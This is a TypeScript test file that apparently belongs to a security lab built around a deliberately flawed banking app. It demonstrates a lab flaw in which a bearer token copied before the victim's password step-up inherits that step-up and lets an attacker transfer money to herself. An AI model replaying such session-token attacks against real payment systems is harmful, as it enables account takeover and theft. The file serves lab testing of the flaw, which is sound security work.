// Attack (lab flaw `no-rotation-on-step-up`, over the API): Mallory copied the victim's bearer
// token while it was stale. The victim steps up with the password to pay someone; Mallory's copy
// now carries that fresh step-up and she sends herself money without knowing the password.
import { randomUUID } from "node:crypto";
import { apiSignIn, apiStepUpAttempt, apiTransfer } from "../support/api";
import { ageSession, balanceOf, expectAttack, test } from "../support/fixtures";

test("a token copied before the victim's step-up moves money without the password", async ({
  request,
  user,
  createUser,
  db,
  target,
}) => {
  const mallory = await createUser();
  const copied = await apiSignIn(request, user);
  await ageSession(db, user.id, { ageMinutes: 6 });

  await apiStepUpAttempt(request, copied, user.password);

  const body = { fromAccountId: user.accountId, toAccountNumber: mallory.accountNumber, amount: "500.00" };
  await apiTransfer(request, copied, body, randomUUID());
  expectAttack(target, (await balanceOf(db, mallory.accountId)) > 250_000);
});
